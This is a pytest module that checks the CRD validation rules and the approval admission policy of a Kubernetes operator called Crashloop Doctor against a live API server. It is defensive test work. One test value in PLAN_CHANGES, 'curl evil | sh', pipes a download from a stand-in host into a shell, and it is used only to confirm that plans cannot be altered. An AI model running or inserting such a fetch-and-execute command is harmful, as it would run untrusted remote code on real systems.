"""What a real API server makes of crds/ and of the chart's approval policy.

Only a server evaluates CEL, and only a server says what a user reads when a rule refuses. Objects are
mostly sent as a dry run, so that nothing stays behind; what has to exist lives in a namespace of its
own.
"""

from __future__ import annotations

import copy
import json
import subprocess
import time
import uuid
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import kubernetes
import pytest
import yaml

from lab import installation

pytestmark = pytest.mark.cluster

ROOT = Path(__file__).parents[2]
API = "crashloop-doctor.io/v1alpha1"
# The service account of a default installation: where that is installed too, its policy knows the same operator.
OPERATOR = "system:serviceaccount:crashloop-doctor:crashloop-doctor"
INSTALLED = "crashloop-doctor-approval"
Object = dict[str, Any]


class Cluster:
    """kubectl against the cluster under test, as whoever is asked for."""

    def __init__(self, kubeconfig: str) -> None:
        self._kubeconfig = kubeconfig

    def run(
        self,
        *args: str,
        manifest: Object | None = None,
        user: str = "",
        groups: tuple[str, ...] = (),
    ) -> subprocess.CompletedProcess[str]:
        who = [f"--as={user}"] if user else []
        who += [f"--as-group={group}" for group in groups]
        return subprocess.run(
            ["kubectl", f"--kubeconfig={self._kubeconfig}", *who, *args],
            input=json.dumps(manifest) if manifest else None,
            capture_output=True,
            text=True,
            timeout=60,
            check=False,
        )

    def must(self, *args: str, manifest: Object | None = None) -> str:
        done = self.run(*args, manifest=manifest)
        assert done.returncode == 0, done.stderr
        return done.stdout

    def as_operator(
        self, *args: str, manifest: Object | None = None
    ) -> subprocess.CompletedProcess[str]:
        """The operator's name, for the admission policy, with an admin's rights, so that RBAC plays no part."""
        return self.run(*args, manifest=manifest, user=OPERATOR, groups=("system:masters",))

    def table_after(self, path: str, patch: Object) -> Object:
        """What kubectl would be given to print after this patch, which is not kept. kubectl has no flag for that."""
        api = kubernetes.config.new_client_from_config(self._kubeconfig)  # type: ignore[no-untyped-call]
        request = api.param_serialize(
            "PATCH",
            path,
            query_params=[("dryRun", "All")],
            header_params={
                "Accept": "application/json;as=Table;g=meta.k8s.io;v=v1",
                "Content-Type": "application/merge-patch+json",
                "Impersonate-User": OPERATOR,
                "Impersonate-Group": "system:masters",
            },
            body=patch,
            auth_settings=["BearerToken"],
        )
        answer = api.call_api(*request)
        answer.read()
        table: Object = json.loads(answer.data)
        return table


@pytest.fixture(scope="module")
def cluster() -> Cluster:
    # The first file of the cluster phase: on a bare machine it is the one that builds the cluster.
    installation.cluster("up")
    cluster = Cluster(installation.cluster("kubeconfig"))
    cluster.must("apply", "--server-side", "--force-conflicts", "-f", str(ROOT / "crds"))
    cluster.must("wait", "--for=condition=Established", "--timeout=30s", "-f", str(ROOT / "crds"))
    return cluster


@pytest.fixture(scope="module")
def namespace(cluster: Cluster) -> Iterator[str]:
    name = f"crd-rules-{uuid.uuid4().hex[:6]}"
    cluster.must("create", "namespace", name)
    yield name
    cluster.must("delete", "namespace", name, "--wait=false")


WORKLOAD = {"apiVersion": "apps/v1", "kind": "DaemonSet", "name": "dfdaemon", "uid": "7b0a2a0e"}
SPECS: dict[str, Object] = {
    "Diagnosis": {"workload": WORKLOAD, "container": "dfdaemon", "cause": "StaleUnixSocket"},
    "Remediation": {
        "diagnosis": "dfdaemon-stale-unix-socket",
        "workload": WORKLOAD,
        "container": "dfdaemon",
        "cause": "StaleUnixSocket",
        "remedy": "RemoveStaleSocket",
        "attempt": 1,
        "changeClass": "Addition",
        "healthyPodsRestarted": 0,
        "digest": "9f2c1e7a4b6d8035",
        "templateHash": "5d8c7f6b9",
        "mode": "Approve",
        "actions": [
            {
                "apiVersion": "v1",
                "kind": "Pod",
                "name": "dfdaemon-x",
                "uid": "1",
                "contentType": "application/strategic-merge-patch+json",
                "subresource": "ephemeralcontainers",
                "body": "{}",
            }
        ],
    },
    "ClusterRemediationPolicy": {},
    "RemediationPolicy": {},
    "FailureSignature": {
        "cause": "NoLeader",
        "summary": "No leader was elected.",
        "confidence": "0.9",
        "patterns": [{"regex": "no cluster leader for (?P<seconds>[0-9]+) s"}],
    },
}
APPROVAL = {"decision": "Approve", "approvedBy": "jane", "digest": "9f2c1e7a4b6d8035"}


def an(kind: str, changes: Object | None = None, **spec: Any) -> Object:
    """A good object of that kind with these fields of its spec changed."""
    return {
        "apiVersion": API,
        "kind": kind,
        "metadata": {"name": "under-test"},
        "spec": copy.deepcopy(SPECS[kind]) | (changes or {}) | spec,
    }


def labels(match: dict[str, str] | None = None, *expressions: Object) -> Object:
    return {"labels": {"matchLabels": match or {}, "matchExpressions": list(expressions)}}


def where(key: str, operator: str, *values: str) -> Object:
    return {"key": key, "operator": operator} | ({"values": list(values)} if values else {})


AUTO = {
    "mode": "Auto",
    "causes": ["StaleUnixSocket"],
    "remedies": [{"name": "RemoveStaleSocket"}],
}

ACCEPTED = {
    "a diagnosis": an("Diagnosis"),
    "a snoozed diagnosis": an("Diagnosis", snoozedUntil="2026-01-31T08:00:00Z"),
    "a remediation": an("Remediation"),
    "a policy that says nothing": an("RemediationPolicy"),
    "a policy without a spec": {k: v for k, v in an("RemediationPolicy").items() if k != "spec"},
    "an automatic policy with causes and remedies": an("ClusterRemediationPolicy", AUTO),
    "different namespaces in and out": an(
        "ClusterRemediationPolicy",
        selector={"namespaces": ["a", "b"], "excludedNamespaces": ["c"]},
    ),
    "a label that In and matchLabels agree on": an(
        "RemediationPolicy", selector=labels({"app": "a"}, where("app", "In", "a", "b"))
    ),
    "a label that NotIn and matchLabels agree on": an(
        "RemediationPolicy", selector=labels({"app": "a"}, where("app", "NotIn", "b"))
    ),
    "In with a value that NotIn leaves over": an(
        "RemediationPolicy",
        selector=labels({}, where("app", "In", "a", "b"), where("app", "NotIn", "a")),
    ),
    "DoesNotExist of one label and Exists of another": an(
        "RemediationPolicy",
        selector=labels({"app": "a"}, where("x", "DoesNotExist"), where("y", "Exists")),
    ),
    "a window of one length": an(
        "RemediationPolicy", verification={"minWindowSeconds": 60, "maxWindowSeconds": 60}
    ),
    "a signature": an("FailureSignature"),
    "a signature with both spellings of a named group": an(
        "FailureSignature", patterns=[{"regex": "(?P<a>x)"}, {"regex": "(?<b>y)"}]
    ),
}

REFUSED = {
    "Auto without causes": (
        an("ClusterRemediationPolicy", AUTO, causes=[]),
        "name at least one cause in spec.causes and one remedy in spec.remedies",
    ),
    "Auto without remedies": (
        an("RemediationPolicy", {k: v for k, v in AUTO.items() if k != "remedies"}),
        "name at least one cause in spec.causes and one remedy in spec.remedies",
    ),
    "a mode that does not exist": (
        an("RemediationPolicy", mode="auto"),
        'supported values: "Observe"',
    ),
    "a remedy that does not exist": (
        an("RemediationPolicy", remedies=[{"name": "Restart"}]),
        'supported values: "RemoveStaleSocket"',
    ),
    "a cause named twice": (
        an("RemediationPolicy", causes=["NoLeader", "NoLeader"]),
        'spec.causes[1]: Duplicate value: "NoLeader"',
    ),
    "a remedy named twice": (
        an("RemediationPolicy", remedies=[{"name": "RemoveStaleSocket"}] * 2),
        "spec.remedies[1]: Duplicate value",
    ),
    "a namespace that is both selected and excluded": (
        an(
            "ClusterRemediationPolicy",
            selector={"namespaces": ["a", "b"], "excludedNamespaces": ["b"]},
        ),
        "the same namespace is in selector.namespaces and in selector.excludedNamespaces",
    ),
    "a namespaced policy about other namespaces": (
        an("RemediationPolicy", selector={"namespaces": ["other"]}),
        "a RemediationPolicy acts in its own namespace only: remove selector.namespaces",
    ),
    "a namespaced policy that excludes namespaces": (
        an("RemediationPolicy", selector={"excludedNamespaces": ["other"]}),
        "a RemediationPolicy acts in its own namespace only: remove selector.namespaces",
    ),
    "a namespace that cannot exist": (
        an("ClusterRemediationPolicy", selector={"namespaces": ["Team_A"]}),
        "spec.selector.namespaces[0]",
    ),
    "In without values": (
        an("RemediationPolicy", selector=labels({}, where("app", "In"))),
        "operator In or NotIn needs values",
    ),
    "NotIn without values": (
        an("RemediationPolicy", selector=labels({}, where("app", "NotIn"))),
        "operator In or NotIn needs values",
    ),
    "Exists with values": (
        an("RemediationPolicy", selector=labels({}, where("app", "Exists", "a"))),
        "operator Exists or DoesNotExist takes no values",
    ),
    "DoesNotExist with values": (
        an("RemediationPolicy", selector=labels({}, where("app", "DoesNotExist", "a"))),
        "operator Exists or DoesNotExist takes no values",
    ),
    "In against matchLabels": (
        an("RemediationPolicy", selector=labels({"app": "b"}, where("app", "In", "a"))),
        "rules out the value that matchLabels demands for the same key",
    ),
    "NotIn against matchLabels": (
        an("RemediationPolicy", selector=labels({"app": "a"}, where("app", "NotIn", "a"))),
        "rules out the value that matchLabels demands for the same key",
    ),
    "DoesNotExist against matchLabels": (
        an("RemediationPolicy", selector=labels({"app": "a"}, where("app", "DoesNotExist"))),
        "rules out the value that matchLabels demands for the same key",
    ),
    "Exists against DoesNotExist": (
        an(
            "RemediationPolicy",
            selector=labels({}, where("app", "Exists"), where("app", "DoesNotExist")),
        ),
        "demands that a label is there (Exists or In) and that it is not (DoesNotExist)",
    ),
    "In against DoesNotExist": (
        an(
            "RemediationPolicy",
            selector=labels({}, where("app", "DoesNotExist"), where("app", "In", "a")),
        ),
        "demands that a label is there (Exists or In) and that it is not (DoesNotExist)",
    ),
    "two In without a value in common": (
        an(
            "RemediationPolicy",
            selector=labels({}, where("app", "In", "a"), where("app", "In", "b")),
        ),
        "the entries of matchExpressions for the same key leave no value of In over",
    ),
    "In whose every value NotIn takes away": (
        an(
            "RemediationPolicy",
            selector=labels({}, where("app", "In", "a", "b"), where("app", "NotIn", "b", "a")),
        ),
        "the entries of matchExpressions for the same key leave no value of In over",
    ),
    "a longest window below the shortest": (
        an("RemediationPolicy", verification={"minWindowSeconds": 60, "maxWindowSeconds": 30}),
        "maxWindowSeconds (1800 unless set) may not be below minWindowSeconds (10 unless set)",
    ),
    "a longest window below the default shortest": (
        an("RemediationPolicy", verification={"maxWindowSeconds": 5}),
        "maxWindowSeconds (1800 unless set) may not be below minWindowSeconds (10 unless set)",
    ),
    "more treatments in a namespace than in the cluster": (
        an("RemediationPolicy", guards={"maxConcurrent": 1}),
        "maxConcurrentPerNamespace (2 unless set) may not be above maxConcurrent (5 unless set)",
    ),
    "a confidence above 1": (an("RemediationPolicy", minConfidence="1.5"), "spec.minConfidence"),
    "a field that does not exist": (
        an("RemediationPolicy", modus="Auto"),
        'unknown field "spec.modus"',
    ),
    "lookaround in a pattern": (
        an("FailureSignature", patterns=[{"regex": "(?!x)y"}]),
        "`(?!` evaluating rule: the pattern is not valid RE2 syntax",
    ),
    "an unclosed group in a pattern": (
        an("FailureSignature", patterns=[{"regex": "fine"}, {"regex": "(open"}]),
        "spec.patterns[1].regex",
    ),
    "a repeat above 1000 in a pattern": (
        an("FailureSignature", patterns=[{"regex": "a{1001}"}]),
        "the pattern is not valid RE2 syntax",
    ),
    "a signature without a pattern": (an("FailureSignature", patterns=[]), "spec.patterns"),
    "a signature that requires the unknown": (
        an("FailureSignature", requires=["Luck"]),
        'supported values: "WritableVolume"',
    ),
    "a signature that outranks what is no name": (
        an("FailureSignature", outranks=["Port Conflict"]),
        "spec.outranks[0]",
    ),
    "an approval of another plan": (
        an("Remediation", approval=APPROVAL | {"digest": "0123456789abcdef"}),
        "spec.approval.digest is not the digest of this plan",
    ),
    "a decision that is neither": (
        an("Remediation", approval=APPROVAL | {"decision": "Maybe"}),
        'supported values: "Approve", "Reject"',
    ),
    "a plan without a request": (an("Remediation", actions=[]), "spec.actions"),
}


def dry_run(cluster: Cluster, namespace: str, manifest: Object) -> subprocess.CompletedProcess[str]:
    return cluster.as_operator(
        "create", "--dry-run=server", "--validate=strict", "-n", namespace, "-f", "-",
        manifest=manifest,
    )  # fmt: skip


@pytest.mark.parametrize("what", ACCEPTED)
def test_the_server_accepts(cluster: Cluster, namespace: str, what: str) -> None:
    done = dry_run(cluster, namespace, ACCEPTED[what])

    assert done.returncode == 0, done.stderr


@pytest.mark.parametrize("what", REFUSED)
def test_the_server_refuses(cluster: Cluster, namespace: str, what: str) -> None:
    manifest, sentence = REFUSED[what]

    done = dry_run(cluster, namespace, manifest)

    assert done.returncode != 0
    assert sentence in done.stderr


def examples() -> list[Object]:
    text = (ROOT / "docs/resources.md").read_text()
    blocks = [block.partition("```")[0] for block in text.split("```yaml\n")[1:]]
    return [document for block in blocks for document in yaml.safe_load_all(block)]


@pytest.mark.parametrize("example", examples(), ids=lambda example: example["kind"])
def test_the_server_accepts_the_examples_of_the_documentation(
    cluster: Cluster, namespace: str, example: Object
) -> None:
    here = json.loads(json.dumps(example, default=str))
    if "namespace" in here["metadata"]:
        here["metadata"]["namespace"] = namespace

    done = dry_run(cluster, namespace, here)

    assert done.returncode == 0, done.stderr


def test_a_policy_that_says_nothing_suggests_and_restarts_nothing(
    cluster: Cluster, namespace: str
) -> None:
    done = cluster.as_operator(
        "create", "--dry-run=server", "-n", namespace, "-f", "-", "-o", "json",
        manifest=ACCEPTED["a policy without a spec"],
    )  # fmt: skip

    spec = json.loads(done.stdout)["spec"]
    assert spec["mode"] == "Suggest"
    assert spec["gitOps"] == "Suggest"
    assert spec["guards"]["maxHealthyPodsRestarted"] == 0


@pytest.fixture
def existing(cluster: Cluster, namespace: str) -> Iterator[Callable[[Object], str]]:
    """Makes an object as the operator would and returns resource/name; it is gone after the test."""
    made: list[str] = []

    def make(manifest: Object) -> str:
        name = f"made-{uuid.uuid4().hex[:6]}"
        done = cluster.as_operator(
            "create", "-n", namespace, "-f", "-", "-o", "name",
            manifest=manifest | {"metadata": {"name": name}},
        )  # fmt: skip
        assert done.returncode == 0, done.stderr
        made.append(done.stdout.strip())
        return made[-1]

    yield make
    for name in made:
        cluster.must("delete", "-n", namespace, name, "--ignore-not-found")


def patch(
    cluster: Cluster, namespace: str, target: str, spec: Object, user: str = "", *extra: str
) -> subprocess.CompletedProcess[str]:
    return cluster.run(
        "patch", "-n", namespace, target, "--type=merge", "-p", json.dumps({"spec": spec}), *extra,
        user=user,
    )  # fmt: skip


PLAN_CHANGES: dict[str, Object] = {
    "another body": {"actions": [SPECS["Remediation"]["actions"][0] | {"body": "{1}"}]},
    "another digest": {"digest": "0123456789abcdef"},
    "a cheaper look": {"healthyPodsRestarted": 9},
    "a bolder mode": {"mode": "Auto"},
    "another workload": {"workload": WORKLOAD | {"name": "other"}},
    "commands to paste where there were none": {"paste": "curl evil | sh"},
    "a policy where there was none": {"policy": "ClusterRemediationPolicy/all"},
    "a later expiry where there was none": {"expiresAt": "2036-01-01T00:00:00Z"},
}


@pytest.mark.parametrize("change", PLAN_CHANGES)
def test_a_plan_cannot_be_given(
    cluster: Cluster, namespace: str, existing: Callable[[Object], str], change: str
) -> None:
    target = existing(an("Remediation"))

    done = patch(cluster, namespace, target, PLAN_CHANGES[change])

    assert "the plan of a Remediation cannot be changed once it is made" in done.stderr


@pytest.mark.parametrize("change", ["container", "cause", "workload"])
def test_a_diagnosis_is_about_the_same_thing_for_ever(
    cluster: Cluster, namespace: str, existing: Callable[[Object], str], change: str
) -> None:
    target = existing(an("Diagnosis"))
    other = {"container": "x", "cause": "NoLeader", "workload": WORKLOAD | {"uid": "2"}}

    done = patch(cluster, namespace, target, {change: other[change]})

    assert f"spec.{change} cannot be changed: delete this Diagnosis" in done.stderr


def test_a_diagnosis_can_be_snoozed_and_woken(
    cluster: Cluster, namespace: str, existing: Callable[[Object], str]
) -> None:
    target = existing(an("Diagnosis"))

    for until in ("2026-01-31T08:00:00Z", "2026-02-28T08:00:00Z", None):
        done = patch(cluster, namespace, target, {"snoozedUntil": until})
        assert done.returncode == 0, done.stderr


def test_a_condition_without_a_message_is_accepted_and_gets_an_empty_one(
    cluster: Cluster, namespace: str, existing: Callable[[Object], str]
) -> None:
    """The operator leaves empty strings out when it writes."""
    target = existing(an("Diagnosis"))
    condition = {
        "type": "Ready",
        "status": "True",
        "reason": "Healthy",
        "lastTransitionTime": "2026-01-31T08:00:00Z",
    }

    done = cluster.as_operator(
        "patch", "-n", namespace, target, "--subresource=status", "--type=merge", "-o", "json",
        "-p", json.dumps({"status": {"conditions": [condition]}}),
    )  # fmt: skip

    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout)["status"]["conditions"] == [condition | {"message": ""}]


GAP = 3  # between two columns of kubectl
STATUSES: dict[str, Object] = {
    "Diagnosis": {
        "workload": "DaemonSet/dfdaemon",
        "confidence": "0.95",
        "podCount": 12,
        "state": "CrashLooping",
        "next": "see Remediation",
        "summary": "A stale socket.",
    },
    "Remediation": {
        "workload": "DaemonSet/dfdaemon",
        "state": "Verifying",
        "next": "healed if it stays up until 10:42",
    },
}


@pytest.mark.parametrize("kind", STATUSES)
def test_the_list_of_a_usual_case_fits_a_terminal_of_120_columns(
    cluster: Cluster, namespace: str, existing: Callable[[Object], str], kind: str
) -> None:
    """The server computes the table for a dry run as well, so that a doctor at work here cannot write over it."""
    name = existing(an(kind)).rpartition("/")[2]
    plural = {"Diagnosis": "diagnoses", "Remediation": "remediations"}[kind]
    table = cluster.table_after(
        f"/apis/{API}/namespaces/{namespace}/{plural}/{name}/status", {"status": STATUSES[kind]}
    )

    shown = [
        max(len(column["name"]), len(str(cell)))
        for column, cell in zip(table["columnDefinitions"], table["rows"][0]["cells"], strict=True)
        if column["priority"] == 0
    ]
    assert STATUSES[kind]["next"] in table["rows"][0]["cells"]
    assert sum(shown) + GAP * (len(shown) - 1) <= 120, table["rows"][0]["cells"]


def test_one_word_lists_every_kind(cluster: Cluster, namespace: str) -> None:
    listed = cluster.must("api-resources", "--categories=crashloop", "-o", "name").split()

    assert listed == [
        f"{path.stem}.crashloop-doctor.io" for path in sorted((ROOT / "crds").glob("*"))
    ]


@pytest.mark.parametrize(
    "field", ["diagnosis.status.evidence", "rem.spec.approval", "crpol.spec.mode"]
)
def test_kubectl_explain_is_documentation(cluster: Cluster, field: str) -> None:
    explained = cluster.must("explain", field)

    assert "<no description>" not in explained


# The approval policy.

EDITOR = "ed"
APPROVER = "jane"
APPROVER_ELSEWHERE = "john"


def rendered(template: str, *args: str) -> list[Object]:
    """One of the chart's templates, as Helm would send it for a default installation."""
    helm = installation.cluster("tool", "helm")
    done = subprocess.run(
        [
            helm, "template", "crashloop-doctor", ROOT / "charts/crashloop-doctor",
            "--namespace=crashloop-doctor", f"--show-only=templates/{template}", *args,
        ],
        capture_output=True,
        text=True,
        check=True,
    )  # fmt: skip
    return [document for document in yaml.safe_load_all(done.stdout) if document]


@pytest.fixture(scope="module")
def guarded(cluster: Cluster, namespace: str) -> Iterator[str]:
    """The namespace with the chart's rules in force, under a name of their own and for this namespace only."""
    name = f"crd-rules-{namespace.rpartition('-')[2]}"
    policy, binding = rendered(
        "approval-policy.yaml", "--set=approvalPolicy.additionalOperators={dev@example.com}"
    )
    policy["metadata"] = {"name": name}
    binding["metadata"] = {"name": name}
    binding["spec"]["policyName"] = name
    binding["spec"]["matchResources"] = {
        "namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": namespace}}
    }
    role = {
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "kind": "Role",
        "metadata": {"name": "editor", "namespace": namespace},
        "rules": [
            {
                "apiGroups": ["crashloop-doctor.io"],
                "resources": ["*"],
                "verbs": ["get", "list", "watch", "create", "update", "patch", "delete"],
            }
        ],
    }
    for manifest in (policy, binding, role):
        cluster.must("create", "-f", "-", manifest=manifest)
    allow = ["create", "-n", namespace]
    cluster.must(
        *allow, "rolebinding", "editors", "--role=editor",
        f"--user={EDITOR}", f"--user={APPROVER}", f"--user={APPROVER_ELSEWHERE}",
        "--user=dev@example.com",
    )  # fmt: skip
    for user, which in ((APPROVER, "*"), (APPROVER_ELSEWHERE, "another-remediation")):
        rule = {
            "apiGroups": ["crashloop-doctor.io"],
            "resources": ["remediations"],
            "verbs": ["approve"],
        }
        if which != "*":
            rule["resourceNames"] = [which]
        approver = role | {"metadata": {"name": f"approver-{user}", "namespace": namespace}}
        cluster.must("create", "-f", "-", manifest=approver | {"rules": [rule]})
        cluster.must(
            *allow, "rolebinding", f"approver-{user}", f"--role=approver-{user}", f"--user={user}"
        )
    _await_in_force(cluster, namespace)
    yield namespace
    cluster.must("delete", "validatingadmissionpolicybinding", name)
    cluster.must("delete", "validatingadmissionpolicy", name)


def _await_in_force(cluster: Cluster, namespace: str) -> None:
    """The API server takes a moment to enforce a new policy."""
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        done = cluster.run(
            "create", "--dry-run=server", "-n", namespace, "-f", "-",
            manifest=an("Diagnosis"), user=EDITOR,
        )  # fmt: skip
        if "only Crashloop Doctor itself makes" in done.stderr:
            return
        time.sleep(0.5)
    pytest.fail(f"the policy is not in force after 30 s: {done.stderr or done.stdout}")


@pytest.mark.parametrize("kind", ["Diagnosis", "Remediation"])
def test_only_the_operator_makes(cluster: Cluster, guarded: str, kind: str) -> None:
    args = ("create", "--dry-run=server", "-n", guarded, "-f", "-")

    by_editor = cluster.run(*args, manifest=an(kind), user=EDITOR)
    by_admin = cluster.run(*args, manifest=an(kind))
    by_operator = cluster.as_operator(*args, manifest=an(kind))

    assert "only Crashloop Doctor itself makes Diagnoses and Remediations" in by_editor.stderr
    assert "only Crashloop Doctor itself makes Diagnoses and Remediations" in by_admin.stderr
    assert by_operator.returncode == 0, by_operator.stderr


def test_an_operator_outside_the_cluster_may_be_named(cluster: Cluster, guarded: str) -> None:
    if cluster.run("get", "validatingadmissionpolicybinding", INSTALLED).returncode == 0:
        pytest.skip("the chart is installed here too, and its policy does not know this user")

    done = cluster.run(
        "create", "--dry-run=server", "-n", guarded, "-f", "-",
        manifest=an("Diagnosis"), user="dev@example.com",
    )  # fmt: skip

    assert done.returncode == 0, done.stderr


def test_not_even_the_operator_makes_a_remediation_that_is_approved_already(
    cluster: Cluster, guarded: str
) -> None:
    approved = an("Remediation", approval=APPROVAL | {"approvedBy": OPERATOR})

    done = dry_run(cluster, guarded, approved)

    assert "a Remediation cannot be made with an approval in it" in done.stderr


@pytest.mark.parametrize("kind", STATUSES)
def test_only_the_operator_writes_the_status_of(
    cluster: Cluster, guarded: str, existing: Callable[[Object], str], kind: str
) -> None:
    target = existing(an(kind))
    args = (
        "patch", "-n", guarded, target, "--subresource=status", "--type=merge",
        "-p", json.dumps({"status": STATUSES[kind]}),
    )  # fmt: skip

    by_editor = cluster.run(*args, user=EDITOR)
    by_approver = cluster.run(*args, user=APPROVER)
    by_operator = cluster.as_operator(*args)

    assert "only Crashloop Doctor itself writes the status" in by_editor.stderr
    assert "only Crashloop Doctor itself writes the status" in by_approver.stderr
    assert by_operator.returncode == 0, by_operator.stderr


@pytest.mark.parametrize(
    ("who", "decision"), [(APPROVER, "Approve"), (APPROVER, "Reject")], ids=["approve", "reject"]
)
def test_whoever_has_the_verb_may(
    cluster: Cluster, guarded: str, existing: Callable[[Object], str], who: str, decision: str
) -> None:
    target = existing(an("Remediation"))
    approval = APPROVAL | {"approvedBy": who, "decision": decision}

    done = patch(cluster, guarded, target, {"approval": approval}, who)

    assert done.returncode == 0, done.stderr


@pytest.mark.parametrize(
    "who", [EDITOR, APPROVER_ELSEWHERE], ids=["an editor", "an approver of another remediation"]
)
def test_without_the_verb_nobody_approves(
    cluster: Cluster, guarded: str, existing: Callable[[Object], str], who: str
) -> None:
    target = existing(an("Remediation"))

    done = patch(cluster, guarded, target, {"approval": APPROVAL | {"approvedBy": who}}, who)

    assert "you may not approve or reject this Remediation" in done.stderr


def test_nobody_approves_in_another_name(
    cluster: Cluster, guarded: str, existing: Callable[[Object], str]
) -> None:
    target = existing(an("Remediation"))

    done = patch(
        cluster, guarded, target, {"approval": APPROVAL | {"approvedBy": "boss"}}, APPROVER
    )

    assert "spec.approval.approvedBy has to be your own user name, which is jane" in done.stderr


def test_an_approval_of_another_digest_is_refused(
    cluster: Cluster, guarded: str, existing: Callable[[Object], str]
) -> None:
    target = existing(an("Remediation"))
    other = APPROVAL | {"digest": "0123456789abcdef"}

    done = patch(cluster, guarded, target, {"approval": other}, APPROVER)

    assert "spec.approval.digest is not the digest of this plan" in done.stderr


AFTERTHOUGHTS = {"taken away": None, "turned round": APPROVAL | {"decision": "Reject"}}


@pytest.mark.parametrize("afterthought", AFTERTHOUGHTS)
def test_an_approval_is_never(
    cluster: Cluster, guarded: str, existing: Callable[[Object], str], afterthought: str
) -> None:
    target = existing(an("Remediation"))
    assert patch(cluster, guarded, target, {"approval": APPROVAL}, APPROVER).returncode == 0

    done = patch(cluster, guarded, target, {"approval": AFTERTHOUGHTS[afterthought]}, APPROVER)

    assert "an approval cannot be changed or withdrawn once it is given" in done.stderr


def test_an_approved_remediation_goes_on_being_kept_up_by_the_operator_without_the_verb(
    cluster: Cluster, guarded: str, existing: Callable[[Object], str]
) -> None:
    target = existing(an("Remediation"))
    assert patch(cluster, guarded, target, {"approval": APPROVAL}, APPROVER).returncode == 0

    labelled = cluster.run("label", "-n", guarded, target, "a=b", user=EDITOR)
    progressed = cluster.as_operator(
        "patch", "-n", guarded, target, "--subresource=status", "--type=merge",
        "-p", json.dumps({"status": {"state": "Approved"}}),
    )  # fmt: skip

    assert labelled.returncode == 0, labelled.stderr
    assert progressed.returncode == 0, progressed.stderr


@pytest.mark.parametrize("kind", ["Diagnosis", "Remediation"])
def test_everybody_with_the_right_may_delete(
    cluster: Cluster, guarded: str, existing: Callable[[Object], str], kind: str
) -> None:
    target = existing(an(kind))

    done = cluster.run("delete", "-n", guarded, target, user=EDITOR)

    assert done.returncode == 0, done.stderr


def test_a_diagnosis_can_be_snoozed_by_an_editor(
    cluster: Cluster, guarded: str, existing: Callable[[Object], str]
) -> None:
    target = existing(an("Diagnosis"))

    done = patch(cluster, guarded, target, {"snoozedUntil": "2026-01-31T08:00:00Z"}, EDITOR)

    assert done.returncode == 0, done.stderr


def test_the_operators_pod_is_admitted_where_pod_security_is_restricted(
    cluster: Cluster, namespace: str
) -> None:
    (deployment,) = rendered("deployment.yaml")
    pod = {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {"name": "operator"},
        "spec": deployment["spec"]["template"]["spec"] | {"serviceAccountName": "default"},
    }
    cluster.must(
        "label", "namespace", namespace, "pod-security.kubernetes.io/enforce=restricted",
        "--overwrite",
    )  # fmt: skip

    done = cluster.run("create", "--dry-run=server", "-n", namespace, "-f", "-", manifest=pod)

    assert done.returncode == 0, done.stderr
